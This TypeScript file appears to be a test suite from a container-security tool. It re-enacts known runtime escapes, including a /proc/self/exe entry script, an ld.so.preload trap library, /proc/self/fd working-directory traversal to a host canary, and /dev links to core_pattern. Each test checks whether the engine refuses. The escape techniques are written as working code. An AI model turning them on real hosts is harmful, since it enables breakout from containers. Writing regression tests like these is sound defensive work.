/** Container escapes that had a CVE number, repeated. */
import {
  chownSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import type { EngineClient } from '../peers/engine-client.ts';
import { parseLine } from './finding.ts';
import { importImage, removeImage } from './images.ts';
import { refusal, type Scenario } from './scenario.ts';
import {
  type Entry,
  probeInside,
  TargetContainer,
  trapPath,
  withContainer,
} from './target-container.ts';

const sleeper = { Cmd: ['sleep', '1000'] };
/** Enough: a race that is lost this often is not won in a test. */
const execs = 12;
/** No user has this id, so a file that belongs to it was given away by the engine. */
const strangeId = 54321;

export const incidents: Scenario[] = [
  {
    name: "the runtime's program can be overwritten (CVE-2019-5736)",
    run: (client) =>
      withContainer(client, { Cmd: [probeInside, 'attack-exe'] }, async (container) => {
        await container.start();
        await container.ready();
        // As in the CVE: in an exec /proc/self/exe is the runtime's own program.
        for (let round = 0; round < execs; round++)
          await refusal(container.exec(['/proc/self/exe', 'whoami']));
        const found = /^overwritable (.*)$/m.exec(await container.output());
        return found?.[1];
      }),
  },
  {
    name: 'an entry point that is the runtime itself (CVE-2019-5736)',
    run: (client) =>
      withContainer(
        client,
        { Cmd: ['/script'] },
        async (container) => {
          await refusal(container.start().then(() => container.wait()));
          const output = await refusal(
            container.output().then(async (text) => Promise.reject(new Error(text))),
          );
          // The runtime's usage error would show that its program ran in the container.
          return /runc|shim|containerd/i.test(output ?? '') ? output : undefined;
        },
        [{ name: 'script', mode: 0o755, content: '#!/proc/self/exe\n' }],
      ),
  },
  {
    name: 'a copy loads a library of the container (CVE-2019-14271)',
    run: async (client) => {
      const library = readFileSync(trapPath);
      const places = ['lib', 'usr/lib', 'usr/lib/x86_64-linux-gnu', 'usr/lib64'].flatMap((place) =>
        ['libnss_files.so.2', 'libnss_compat.so.2', 'libnss_dns.so.2', 'libc.so.6'].map(
          (name): Entry => ({ name: `${place}/${name}`, mode: 0o755, content: library }),
        ),
      );
      const entries: Entry[] = [
        ...places.filter(({ name }) => !name.startsWith('lib/')),
        { name: 'trap.so', mode: 0o755, content: library },
        { name: 'etc/ld.so.preload', content: '/trap.so\n' },
      ];
      return withContainer(
        client,
        sleeper,
        async (container) => {
          await container.start();
          for (let round = 0; round < 3; round++) {
            await container.put('/tmp', [{ name: 'copied', content: 'x' }]);
            await container.get('/tmp/copied');
            await refusal(container.exec(['id'], { User: 'user' }));
          }
          const missing = await refusal(container.get('/trapped'));
          return missing === undefined ? 'the library was loaded in the container' : undefined;
        },
        entries,
      );
    },
  },
  {
    name: '/proc of the image is a link (CVE-2019-19921)',
    run: (client) => kernelFilesOf(client, 'proc'),
  },
  {
    name: '/sys of the image is a link (CVE-2019-19921)',
    run: (client) => kernelFilesOf(client, 'sys'),
  },
  {
    name: "the machine's /dev/null is given to the container's user",
    run: (client) =>
      withContainer(
        client,
        { Cmd: ['sleep', '1000'], User: `${strangeId}:${strangeId}` },
        async (container) => {
          await container.start();
          await container.exec(['true']);
          const { uid, gid } = statSync('/dev/null');
          if (uid !== strangeId && gid !== strangeId) return undefined;
          chownSync('/dev/null', 0, 0);
          return `it belonged to ${uid}:${gid}`;
        },
      ),
  },
  {
    name: 'abstract sockets on the host network (CVE-2020-15257)',
    run: (client) =>
      withContainer(
        client,
        { Cmd: [probeInside, 'sockets'], HostConfig: { NetworkMode: 'host' } },
        async (container) => openIn(await container.run(), /^abstract sockets/),
      ),
  },
  {
    name: 'the working directory is a descriptor of the runtime (CVE-2024-21626)',
    run: async (client, canary) => {
      const read = ['cat', `../../../../../../../../../../..${canary.path}/secret`];
      for (let fd = 3; fd < 16; fd++) {
        const WorkingDir = `/proc/self/fd/${fd}`;
        const container = await TargetContainer.create(client, { Cmd: read, WorkingDir }).catch(
          () => undefined,
        );
        try {
          if (
            (await refusal(container?.start() ?? Promise.reject(new Error('refused')))) !==
            undefined
          )
            continue;
          await container?.wait();
          const got = canary.touched((await container?.output()) ?? '');
          if (got !== undefined) return `${WorkingDir}: ${got}`;
        } finally {
          await container?.remove();
        }
      }
      return undefined;
    },
  },
  {
    name: "an exec's working directory is a descriptor of the runtime (CVE-2024-21626)",
    run: (client, canary) =>
      withContainer(client, sleeper, async (container) => {
        await container.start();
        const read = ['cat', `../../../../../../../../../../..${canary.path}/secret`];
        for (let fd = 3; fd < 16; fd++) {
          let output = '';
          await refusal(
            container.exec(read, { WorkingDir: `/proc/self/fd/${fd}` }).then((text) => {
              output = text;
            }),
          );
          const got = canary.touched(output);
          if (got !== undefined) return `descriptor ${fd}: ${got}`;
        }
        return undefined;
      }),
  },
  {
    name: 'a mask that is a link to a sysctl (CVE-2025-31133)',
    run: (client) => ownDev(client, 'null', ['files'], {}),
  },
  {
    name: 'a mask that is an ordinary file (CVE-2025-31133)',
    run: (client) => ownDev(client, undefined, ['files'], {}),
  },
  {
    name: 'the console is a link to a sysctl (CVE-2025-52565)',
    run: (client) => ownDev(client, 'console', ['files'], { Tty: true }),
  },
  ...['/proc', '/proc/sys', '/proc/self/attr', '/proc/sys/net/ipv4/../../kernel', '/link/sys'].map(
    (destination): Scenario => ({
      name: `a mount over ${destination}, where the runtime writes (CVE-2025-52881)`,
      run: async (client) => {
        const HostConfig = {
          Tmpfs: { [destination]: 'rw' },
          Sysctls: { 'net.ipv4.ip_unprivileged_port_start': '79' },
        };
        const settings = { Cmd: ['cat', '/proc/self/mountinfo'], HostConfig };
        return withImage(client, [{ name: 'link', type: 'symlink', linkname: 'proc' }], (Image) =>
          mountsBelowProc(client, { ...settings, Image }),
        );
      },
    }),
  ),
];

/** Starts an image in which `name`, such as /proc, is a link to a directory that the image or a volume fills. */
async function kernelFilesOf(client: EngineClient, name: string): Promise<string | undefined> {
  const entries: Entry[] = [
    { name: 'elsewhere/', type: 'directory' },
    { name, type: 'symlink', linkname: '/elsewhere' },
  ];
  return withImage(client, entries, async (Image) => {
    let output = '';
    const refused = await refusal(
      withContainer(client, { Image, Cmd: [probeInside, 'files'] }, async (container) => {
        output = await container.run();
      }),
    );
    return refused === undefined ? openIn(output, controls) : undefined;
  });
}

/** Names of probes of paths that are masked or read-only by default. */
const controls =
  /^(write \/proc\/(sysrq-trigger|sys\/)|read \/proc\/(kcore|keys|timer_list)|list \/sys\/firmware|sweep of \/(proc\/)?sys )/;

function openIn(output: string, which: RegExp): string | undefined {
  const open = output
    .split('\n')
    .map((line) => line.trim())
    .filter((line) => which.test(line) && line.includes('\t'))
    .map((line) => parseLine('', '', line))
    .find(({ outcome }) => outcome === 'open');
  return open && `${open.probe} ${open.detail}`.trim();
}

/**
 * Mounts a directory on `/dev` in which `link` leads to /proc/sys/kernel/core_pattern. Without `link` its `null` is a plain
 * file.
 */
async function ownDev(
  client: EngineClient,
  link: string | undefined,
  topics: string[],
  settings: { Tty?: boolean },
): Promise<string | undefined> {
  const directory = mkdtempSync('/tmp/corten-attack-dev-');
  try {
    if (link === undefined) writeFileSync(join(directory, 'null'), '');
    else symlinkSync('/proc/sys/kernel/core_pattern', join(directory, link));
    mkdirSync(join(directory, 'pts'));
    mkdirSync(join(directory, 'shm'));
    const body = {
      ...settings,
      Cmd: [probeInside, ...topics],
      HostConfig: { Binds: [`${directory}:/dev`] },
    };
    let output = '';
    const refused = await refusal(
      withContainer(client, body, async (container) => {
        await container.start();
        await container.wait();
        output = settings.Tty === true ? await container.screen() : await container.output();
      }),
    );
    return refused === undefined ? openIn(output, controls) : undefined;
  } finally {
    rmSync(directory, { recursive: true, force: true });
  }
}

async function mountsBelowProc(
  client: EngineClient,
  settings: Parameters<typeof TargetContainer.create>[1],
): Promise<string | undefined> {
  let output = '';
  const refused = await refusal(
    withContainer(client, settings, async (container) => {
      output = await container.run();
    }),
  );
  if (refused !== undefined) return undefined;
  const strange = output
    .split('\n')
    .map((line) => ({ point: line.split(' ')[4] ?? '', tail: line.split(' - ')[1] ?? '' }))
    // The engine's own masks are read-only tmpfs, and the one that was asked for is writable.
    .find(({ point, tail }) => point.startsWith('/proc') && /^tmpfs \S+ rw/.test(tail));
  return strange && `a tmpfs lies on ${strange.point}`;
}

async function withImage<T>(
  client: EngineClient,
  entries: Entry[],
  work: (image: string) => Promise<T>,
): Promise<T> {
  const image = await importImage(client, entries);
  try {
    return await work(image);
  } finally {
    await removeImage(client, image);
  }
}
